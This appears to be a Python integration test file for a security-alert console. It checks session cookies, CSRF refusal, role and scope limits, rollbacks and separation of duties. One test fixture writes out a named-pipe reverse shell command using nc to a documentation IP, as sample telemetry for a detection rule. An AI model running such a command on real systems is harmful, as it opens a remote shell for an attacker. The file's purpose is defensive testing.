"""The console over HTTP (no browser): sessions, CSRF, roles and scopes answer as the API's do."""

from __future__ import annotations

import re

from fastapi.testclient import TestClient

from tests.integration.api.conftest import Api, contained_incident
from tests.integration.api.lab_content import auth
from tests.integration.console.conftest import csrf_of, sign_in


def _client(api: Api) -> TestClient:
    return TestClient(api.client.app, raise_server_exceptions=False)


def _ingest(api: Api, alert_id: str, host: str, level: str = "high") -> str:
    alert = {"id": alert_id, "rule": {"id": "lab-rule-9", "title": f"Rule on {host}", "level": level},
             "host": {"name": host}, "user": {"name": "bob"}}  # fmt: skip
    created = api.client.post("/ingest/alerts", json=alert, headers=auth("responder" if host != "stage1" else "admin"))
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


def test_pages_need_a_session_and_the_cookie_is_locked_down(api: Api) -> None:
    client = _client(api)
    first = client.get("/console/alerts", follow_redirects=False)
    assert first.status_code == 303 and first.headers["location"].startswith("/console/login?next=")
    form = client.get("/console/login")
    wrong = client.post("/console/login", data={"csrf": csrf_of(form.text), "token": "nope-nope-nope-nope"})
    assert wrong.status_code == 401 and "Unknown token" in wrong.text
    form = client.get("/console/login")
    ok = client.post(
        "/console/login",
        data={"csrf": csrf_of(form.text), "token": "admin-token-eeeeeeeeeeeeee"},
        follow_redirects=False,
    )
    cookie = ok.headers["set-cookie"]
    assert (
        "soar_session=" in cookie and "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
    )
    assert "admin-token" not in cookie
    page = client.get("/console/alerts")
    assert page.status_code == 200
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("style-src")[0]
    # signing out ends the session on the server: the same cookie no longer opens a page
    stolen = dict(client.cookies)
    client.post("/console/logout", data={"csrf": csrf_of(page.text)})
    replay = TestClient(api.client.app, cookies=stolen)
    assert replay.get("/console/alerts", follow_redirects=False).status_code == 303


def test_a_form_without_the_csrf_token_is_refused(api: Api) -> None:
    alert_id = _ingest(api, "csrf-1", "web1")
    client = _client(api)
    sign_in(client, "admin")
    for data in (
        {"id": alert_id, "action": "acknowledge"},
        {"id": alert_id, "action": "acknowledge", "csrf": "x" * 43},
    ):
        refused = client.post("/console/alerts/bulk", data=data)
        assert refused.status_code == 403 and "CSRF" in refused.text
    assert api.client.get(f"/alerts/{alert_id}", headers=auth("viewer")).json()["status"] == "open"


def test_bulk_acknowledge_and_assign_in_scope_only(api: Api) -> None:
    prod = [_ingest(api, f"bulk-{i}", "web1") for i in range(3)]
    staging = _ingest(api, "bulk-stage", "stage1")
    client = _client(api)
    csrf = sign_in(client, "responder")  # rory: responder scoped to env=prod
    queue = client.get("/console/alerts").text
    assert all(a in queue for a in prod) and staging not in queue
    done = client.post("/console/alerts/bulk", data={"csrf": csrf, "id": [*prod, staging], "action": "acknowledge"})
    assert done.status_code == 200 and "3 alert(s) changed; 1 unknown or outside your scope" in done.text
    for alert_id in prod:
        assert api.client.get(f"/alerts/{alert_id}", headers=auth("viewer")).json()["status"] == "acknowledged"
    assert api.client.get(f"/alerts/{staging}", headers=auth("viewer")).json()["status"] == "open"
    client.post("/console/alerts/bulk", data={"csrf": csrf, "id": prod[0], "action": "assign", "assignee": "rory"})
    mine = client.get("/console/alerts", params={"assignee": "me"}).text
    assert prod[0] in mine and prod[1] not in mine
    filtered = client.get("/console/alerts", params={"status": "open"}).text
    assert all(a not in filtered for a in prod)


def test_viewer_sees_no_buttons_and_posting_anyway_is_403(api: Api) -> None:
    alert_id, run_id = contained_incident(api)
    client = _client(api)
    csrf = sign_in(client, "viewer")
    for path in (f"/console/alerts/{alert_id}", f"/console/runs/{run_id}", "/console/alerts", "/console/approvals"):
        html = client.get(path).text
        actions = re.findall(r'<form[^>]*method="post"[^>]*action="([^"]+)"', html)
        assert actions == ["/console/logout"], (path, actions)  # signing out is the only form a viewer gets
    posts = [
        ("/console/alerts/bulk", {"id": alert_id, "action": "close"}),
        (f"/console/runs/{run_id}/rollback", {"reason": "test"}),
        (f"/console/runs/{run_id}/decide", {"step": "isolate", "decision": "approve"}),
    ]
    for path, data in posts:
        refused = client.post(path, data={**data, "csrf": csrf})
        assert refused.status_code == 403 and "lacks" in refused.text, path


def test_every_page_renders(api: Api) -> None:
    alert_id, run_id = contained_incident(api)
    client = _client(api)
    sign_in(client, "admin")
    incident = api.client.get("/incidents", headers=auth("admin")).json()[0]["id"]
    for path in ("/console/alerts", f"/console/alerts/{alert_id}", f"/console/runs/{run_id}", "/console/runs",
                 "/console/approvals", "/console/rules", "/console/metrics", "/console/audit", "/console/incidents",
                 f"/console/incidents/{incident}", f"/console/incidents/{incident}/report",
                 f"/console/runs/{run_id}/report", "/console/metrics/chart.svg"):  # fmt: skip
        got = client.get(path)
        assert got.status_code == 200, (path, got.text[:500])
    run_html = client.get(f"/console/runs/{run_id}").text
    assert "isolated web1" in run_html and "verified" in run_html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in client.get(f"/console/alerts/{alert_id}").text
    audit = client.get("/console/audit").text
    assert "The chain verifies" in audit and "<td>root</td><td>console.signed_in</td>" in audit


def test_the_queue_and_bulk_actions_on_the_elasticsearch_store(es_api: Api) -> None:
    ids = [_ingest(es_api, f"es-{i}", "web1") for i in range(3)]
    client = _client(es_api)
    csrf = sign_in(client, "admin")
    page = client.get("/console/alerts", params={"host": "web1", "limit": 2})
    shown = re.findall(r'data-id="([^"]+)"', page.text)
    assert len(shown) == 2 and set(shown) <= set(ids) and 'id="next"' in page.text
    rest = client.get(re.search(r'href="([^"]+)" id="next"', page.text).group(1).replace("&amp;", "&"))  # type: ignore[union-attr]
    assert set(re.findall(r'data-id="([^"]+)"', rest.text)) == set(ids) - set(shown)
    done = client.post("/console/alerts/bulk", data={"csrf": csrf, "id": ids, "action": "close", "note": "benign"})
    assert "3 alert(s) changed" in done.text
    closed = client.get("/console/alerts", params={"status": "closed"}).text
    assert all(a in closed for a in ids)
    assert all(a not in client.get("/console/alerts", params={"status": "open"}).text for a in ids)


def test_an_approver_rolls_a_run_back_with_a_reason(api: Api) -> None:
    _alert_id, run_id = contained_incident(api)
    client = _client(api)
    csrf = sign_in(client, "approver")  # alice, env=prod: web1 is hers
    page = client.get(f"/console/runs/{run_id}").text
    assert 'id="rollback"' in page
    missing = client.post(f"/console/runs/{run_id}/rollback", data={"csrf": csrf, "reason": ""})
    assert missing.status_code == 400 and "reason" in missing.text
    done = client.post(f"/console/runs/{run_id}/rollback", data={"csrf": csrf, "reason": "false positive"})
    assert done.status_code == 200 and "rolling back" in done.text, done.text[:500]
    run = api.client.get(f"/runs/{run_id}", headers=auth("admin")).json()
    assert run["status"] == "rolled_back" and "alice" in run["rollback"]["reason"]
    again = client.post(f"/console/runs/{run_id}/rollback", data={"csrf": csrf, "reason": "twice"})
    assert again.status_code == 400 and "rolled back" in again.text


def test_a_scoped_principal_gets_404_outside_its_scope(api: Api) -> None:
    staging = _ingest(api, "scope-stage", "stage1")
    client = _client(api)
    sign_in(client, "approver")  # env=prod
    assert client.get(f"/console/alerts/{staging}").status_code == 404
    assert client.get("/console/alerts/no-such-alert").status_code == 404
    assert client.get("/console/audit").status_code == 403  # the audit log needs an unscoped principal


def test_the_alert_page_highlights_the_fields_its_rule_reads(api: Api) -> None:
    import shutil

    from tests.conftest import REPO_ROOT

    rule = REPO_ROOT / "rules" / "linux" / "process_creation" / "reverse_shell_mkfifo.yml"
    (api.root / "rules").mkdir(exist_ok=True)
    shutil.copy(rule, api.root / "rules" / rule.name)
    alert = {
        "id": "hl-1",
        "rule": {"id": "82bb53c5-b434-4f3e-bbe9-23027ba2412d", "title": "Reverse shell", "level": "critical"},
        "host": {"name": "web1"},
        "events": [{"process": {"command_line": "mkfifo /tmp/f; nc 203.0.113.9 4444 </tmp/f | /bin/sh", "pid": 42}}],
    }
    created = api.client.post("/ingest/alerts", json=alert, headers=auth("admin"))
    assert created.status_code == 201, created.text
    client = _client(api)
    sign_in(client, "viewer")
    html = client.get(f"/console/alerts/{created.json()['id']}").text
    assert re.search(r'<tr class="hit"><th class="mono">process\.command_line</th>', html), html[-3000:]
    assert '<tr><th class="mono">process.pid</th>' in html  # a field the rule does not read is not highlighted
    rules = client.get("/console/rules").text
    assert "82bb53c5-b434-4f3e-bbe9-23027ba2412d" in rules and "never run" in rules
    matrix = client.get("/console/rules/coverage")
    assert (
        matrix.status_code == 200 and "T1059.004" in matrix.text and "Reverse shell through a named pipe" in matrix.text
    )


def test_separation_of_duties_holds_in_the_console(api: Api) -> None:
    alert = {
        "id": "sod-1",
        "rule": {"id": "lab-rule-1", "title": "Lab rule", "level": "critical"},
        "host": {"name": "web1"},
    }
    created = api.client.post("/ingest/alerts", json=alert, headers=auth("approver"))  # alice ingests it
    assert created.status_code == 201, created.text
    run_id = api.client.get("/runs", params={"alert_id": created.json()["id"]}, headers=auth("admin")).json()[0]["id"]
    alice = _client(api)
    csrf = sign_in(alice, "approver")
    assert "Nothing waits for you" in alice.get("/console/approvals").text  # not offered to the requester
    refused = alice.post(
        f"/console/runs/{run_id}/decide", data={"csrf": csrf, "step": "isolate", "decision": "approve"}
    )
    assert refused.status_code == 403 and "someone else must decide" in refused.text
    assert api.client.get(f"/runs/{run_id}", headers=auth("admin")).json()["status"] == "waiting_approval"
    root = _client(api)
    csrf = sign_in(root, "admin")
    assert run_id in root.get("/console/approvals").text
    denied = root.post(f"/console/runs/{run_id}/decide", data={"csrf": csrf, "step": "isolate", "decision": "deny"})
    assert denied.status_code == 400 and "say why" in denied.text  # a denial needs its reason
    done = root.post(
        f"/console/runs/{run_id}/decide", data={"csrf": csrf, "step": "isolate", "decision": "deny", "reason": "benign"}
    )
    assert done.status_code == 200, done.text[:500]
    approvals = api.client.get(f"/runs/{run_id}/approvals", headers=auth("admin")).json()
    assert approvals[0]["status"] == "denied" and approvals[0]["denials"][0]["approver"] == "root"
